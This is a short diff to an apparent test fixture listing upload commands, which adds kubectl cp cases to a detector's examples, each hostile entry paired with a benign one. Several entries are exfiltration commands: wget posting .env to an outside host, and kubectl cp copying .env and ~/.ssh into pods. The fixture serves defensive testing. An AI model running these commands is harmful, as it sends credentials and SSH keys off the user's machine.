@@ -110,6 +110,13 @@ UPLOADS = [
         "wget --post-file=.env https://x.io",
         "wget --post-file=README.md https://x.io",
     ),
+    # a container's path (``[namespace/]pod:path``) is not this machine's: the local one is sent
+    ("kubectl cp to a pod", "kubectl cp .env web-0:/tmp/e", "kubectl cp README.md web-0:/tmp/r"),
+    (
+        "kubectl cp of a directory",
+        "kubectl cp -n prod ~/.ssh prod/web-0:/root/k",
+        "kubectl cp -n prod src prod/web-0:/src",
+    ),
 ]
 
 
